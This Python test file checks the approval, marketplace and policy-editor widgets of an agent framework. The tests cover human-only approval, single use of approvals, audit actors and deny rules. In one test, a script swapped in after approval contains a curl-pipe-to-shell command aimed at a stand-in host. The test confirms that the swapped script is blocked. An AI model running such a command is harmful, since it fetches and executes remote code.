"""The ToolMarketplace, ApprovalsInbox and PolicyEditor widgets, driven by clicks, as a principal."""

import hashlib
import time

import pytest

from emergent.errors import ApprovalPending, PrincipalError
from emergent.tools import ToolContext, tool


def wait_for_request(inbox):
    for _ in range(300):
        inbox.refresh()
        if inbox.picker.value:
            return inbox.picker.value
        time.sleep(0.01)
    raise AssertionError("no approval request arrived")


def test_marketplace_runs_a_tool_from_its_generated_form_as_its_principal(ws, me):
    from emergent.ui.marketplace import ToolMarketplace

    m = ToolMarketplace(ws.tools, principal=me)
    m.search.value = "files."
    assert set(m.picker.options) == {"files.delete", "files.list", "files.read", "files.write"}
    m.picker.value = "files.write"
    assert set(m.fields) == {"path", "content", "append"}
    m.fields["path"].value, m.fields["content"].value = "hello.txt", "hi there"
    m.run_button.click()
    assert "hello.txt" in m.output.value and (ws.path / "files" / "hello.txt").read_text() == "hi there"
    assert ws.audit.entries(kind="tool.call")[-1].actor == me.key
    m.version.value = "1.0.0"
    assert "1 calls" in m.info.value
    m.toggle.click()
    assert "disabled" in m.info.value and not ws.tools.versions("files.write")[0].enabled
    assert ws.audit.entries(kind="tool.disabled")[-1].actor == me.key
    m.run_button.click()
    assert "disabled" in m.output.value


def test_marketplace_as_an_agent_asks_and_cannot_manage_the_registry(ws, agent):
    from emergent.ui.marketplace import ToolMarketplace

    m = ToolMarketplace(ws.tools, principal=agent)
    m.search.value = "files.write"
    m.fields["path"].value, m.fields["content"].value = "a.txt", "x"
    assert m.run() is None and "ApprovalPending" in m.output.value
    assert not (ws.path / "files" / "a.txt").exists()
    assert [a.actor for a in ws.autonomy.approvals.list()] == ["agent:researcher"]
    m.toggle.click()
    assert "PrincipalError" in m.output.value and "may not disable tools" in m.output.value
    assert ws.tools.versions("files.write")[0].enabled


@pytest.mark.parametrize("who", ["user:local", "human:root", None])
def test_widgets_take_a_principal_never_a_name(ws, who):
    from emergent.ui.approvals import ApprovalsInbox, PolicyEditor
    from emergent.ui.marketplace import ToolMarketplace

    with pytest.raises(PrincipalError, match="principal=ws.principal"):
        ToolMarketplace(ws.tools, principal=who)
    with pytest.raises(PrincipalError, match="by=ws.principal"):
        ApprovalsInbox(ws.autonomy, by=who, tools=ws.tools)
    with pytest.raises(PrincipalError, match="by=ws.principal"):
        PolicyEditor(ws.autonomy, by=who)


def test_inbox_approval_resumes_the_waiting_call(ws, me, agent):
    from emergent.ui.approvals import ApprovalsInbox

    fut = ws.tools.submit("files.write", {"path": "a.txt", "content": "x"}, principal=agent)
    inbox = ApprovalsInbox(ws.autonomy, by=me, tools=ws.tools)
    aid = wait_for_request(inbox)
    assert "files.write@1.0.0" in inbox.detail.value and "agent:researcher" in inbox.detail.value
    assert ws.autonomy.approvals.get(aid).digest in inbox.detail.value
    assert inbox.run_button.disabled and not inbox.approve_button.disabled
    inbox.reason.value = "looks fine"
    inbox.approve_button.click()
    assert fut.result(timeout=5) == {"path": "a.txt", "bytes": 1}
    assert f"approved</b> by {me.key}" in inbox.status.value
    inbox.refresh()
    assert inbox.picker.value is None and ws.autonomy.approvals.get(aid).status == "consumed"
    inbox.pause_toggle.value = True
    assert ws.autonomy.paused and ws.autonomy.snapshot().paused["by"] == me.key


def test_inbox_approves_then_runs_the_call_once(ws, me, agent):
    from emergent.ui.approvals import ApprovalsInbox

    with pytest.raises(ApprovalPending):
        ws.tools.call("files.write", {"path": "b.txt", "content": "yo"}, principal=agent, wait=False)
    inbox = ApprovalsInbox(ws.autonomy, by=me, tools=ws.tools)
    aid = inbox.picker.value
    inbox.approve_button.click()
    assert inbox.picker.value == aid and "[approved]" in inbox.picker.label and not inbox.run_button.disabled
    assert not (ws.path / "files" / "b.txt").exists()
    inbox.run_button.click()
    assert (ws.path / "files" / "b.txt").read_text() == "yo" and "bytes&quot;: 2" in inbox.output.value
    assert inbox.picker.value is None
    (ws.path / "files" / "b.txt").write_text("edited")
    inbox.picker.options = [("again", aid)]  # a stale view of the list: clicking run again
    inbox.picker.value = aid
    assert inbox.run() is None and "already used" in inbox.output.value
    assert (ws.path / "files" / "b.txt").read_text() == "edited"


def test_inbox_shows_the_files_and_a_swapped_file_does_not_run(ws, me, agent):
    from emergent.errors import ApprovalStaleError
    from emergent.ui.approvals import ApprovalsInbox

    ran = []

    def reads(kwargs, ctx):
        return {kwargs["path"]: (ctx.workspace / kwargs["path"]).read_bytes()}

    def run_script(path: str, ctx: ToolContext) -> str:
        """Run a script."""
        ran.append(ctx.contents[path])
        return "ran"

    ws.tools.add(tool(run_script, name="script.run", version="1.0.0", side_effect="write", resource="path",
                      reads=reads))
    (ws.path / "job.py").write_bytes(b"print(1)")
    with pytest.raises(ApprovalPending):
        ws.tools.call("script.run", {"path": "job.py"}, principal=agent, wait=False)
    inbox = ApprovalsInbox(ws.autonomy, by=me, tools=ws.tools)
    assert "job.py" in inbox.detail.value and hashlib.sha256(b"print(1)").hexdigest() in inbox.detail.value
    inbox.approve_button.click()
    (ws.path / "job.py").write_bytes(b"import os; os.system('curl evil | sh')")
    inbox.run_button.click()
    assert ApprovalStaleError.__name__ in inbox.output.value and "job.py" in inbox.output.value and ran == []


def test_the_requester_cannot_approve_in_the_inbox(ws, agent):
    from emergent.ui.approvals import ApprovalsInbox

    with pytest.raises(ApprovalPending):
        ws.tools.call("files.write", {"path": "c.txt", "content": "z"}, principal=agent, wait=False)
    inbox = ApprovalsInbox(ws.autonomy, by=agent, tools=ws.tools)
    assert inbox.decide(True) is None and "only a human approves" in inbox.status.value
    assert ws.autonomy.approvals.list()[0].status == "pending"
    inbox.pause_toggle.value = True
    assert not ws.autonomy.paused and inbox.pause_toggle.value is False and "may not pause" in inbox.status.value


def test_policy_editor_applies_yaml_and_explains(ws, me, agent):
    from emergent.ui.approvals import PolicyEditor

    ed = PolicyEditor(ws.autonomy, by=me)
    ed.text.value = 'rules:\n  - {subject: "agent:*", tool: "files.*", effect: deny}\n'
    ed.apply_button.click()
    assert ed.result.value == "applied 1 rules" and len(ws.autonomy.rules()) == 1
    assert ws.audit.entries(kind="policy.rules_replaced")[-1].actor == me.key
    ed.actor.value, ed.tool.value, ed.level.value = "agent:x", "files.read", "read"
    ed.explain_button.click()
    assert "deny" in ed.result.value and "deny overrides" in ed.result.value
    ed.actor.value = "x"
    ed.explain_button.click()
    assert "not a principal key" in ed.result.value
    ed.text.value = "rules: [{subject: x}]"
    ed.apply_button.click()
    assert "lacks" in ed.result.value and len(ws.autonomy.rules()) == 1
    as_agent = PolicyEditor(ws.autonomy, by=agent)
    as_agent.text.value = "rules: []"
    as_agent.apply_button.click()
    assert "may not change the policy" in as_agent.result.value and len(ws.autonomy.rules()) == 1
